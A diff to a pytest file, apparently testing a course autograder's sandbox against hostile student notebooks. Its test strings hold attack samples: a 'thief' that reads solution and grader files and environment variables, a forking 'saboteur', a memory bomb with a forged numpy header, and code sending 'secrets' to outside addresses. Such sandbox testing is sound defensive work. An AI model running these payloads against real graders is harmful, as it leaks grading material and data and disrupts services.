@@ -41,6 +41,12 @@ def test_the_sandbox_can_be_made_here():
 # --- the class -----------------------------------------------------------------------------------
 
 
+@pytest.fixture(scope="module", autouse=True)
+def _built(built_course):
+    import tests.test_pipeline as pipeline
+    pipeline.BUILT = built_course  # its helpers (solved, student) read the built course from there
+
+
 def notebook(kind: str, before_tests: str = "", cells: dict[str, str] | None = None) -> nbformat.NotebookNode:
     """``kind`` "blank" (the student version) or "solved"; ``before_tests`` a plain cell after the
     imports; ``cells`` replaces solution cells by grade_id."""
@@ -71,7 +77,7 @@ def _targets(out: Path, klass: Path) -> list[str]:
 
 THIEF = """
 import os, sys, pathlib, importlib, cnn_course
-targets = {targets!r}
+targets = TARGETS
 here = pathlib.Path(cnn_course.__file__).resolve().parents[1]
 targets += [str(here / "solutions"), str(here / "grader" / "reference.py"), str(here / "grader")]
 for path in targets:
@@ -103,7 +109,7 @@ print("env", sorted(os.environ))
 
 SABOTEUR = """
 import os, time, pathlib
-targets = {targets!r}
+targets = TARGETS
 def daemon():
     if os.fork():
         return
@@ -150,7 +156,7 @@ def emit(case_set_id, function, outcomes):
         buffer = io.BytesIO()
         np.save(buffer, np.zeros(3))
         raw = buffer.getvalue().replace(b"(3,)", b"(100000000000,)")
-        bomb = {{"value": {{"__ndarray__": base64.b64encode(raw).decode()}}}}
+        bomb = {"value": {"__ndarray__": base64.b64encode(raw).decode()}}
         real_emit(case_set_id, function, [bomb] * len(outcomes))
     else:
         real_emit(case_set_id, function, outcomes)
@@ -159,7 +165,7 @@ record.emit = emit
 
 NETWORK = """
 import socket
-for address in [("127.0.0.1", {port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
+for address in [("127.0.0.1", PORT), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
     try:
         socket.create_connection(address, timeout=2).sendall(b"secrets")
         print("LEAK connected", address)
@@ -267,7 +273,7 @@ def graded_class(tmp_path_factory):
     honest = {"alice": notebook("solved"), "bob": notebook("blank"),
               "carol": notebook("solved", cells={"pad2d": "def pad2d(x, pad, value=0.0):\n    return x.copy()\n"})}
     for name, (kind, plain, cells) in HOSTILE.items():
-        code = plain.format(targets=targets, port=listener.getsockname()[1]) if plain else ""
+        code = plain.replace("TARGETS", repr(targets)).replace("PORT", str(listener.getsockname()[1]))
         honest[name] = notebook(kind, code, cells)
     for name, nb in honest.items():
         nbformat.write(nb, klass / f"{name}__{A}.ipynb")
@@ -314,7 +320,7 @@ def test_every_student_has_a_row_and_honest_ones_are_graded_right(graded_class):
     assert run.returncode == 1  # some (the hog, the killer) could not be graded: said by the exit code
     assert total(table["alice"]) == float(table["alice"]["max_total"]) == 20
     assert total(table["bob"]) == 0
-    assert total(table["carol"]) == 17 and float(table["carol"][f"{A}/test_pad2d_hidden"]) == 0
+    assert total(table["carol"]) == 15 and float(table["carol"][f"{A}/test_pad2d_hidden"]) == 0
     for name, row in table.items():
         assert row["status"] == "graded" or row["status"].startswith("NOT GRADED: "), (name, row["status"])
 
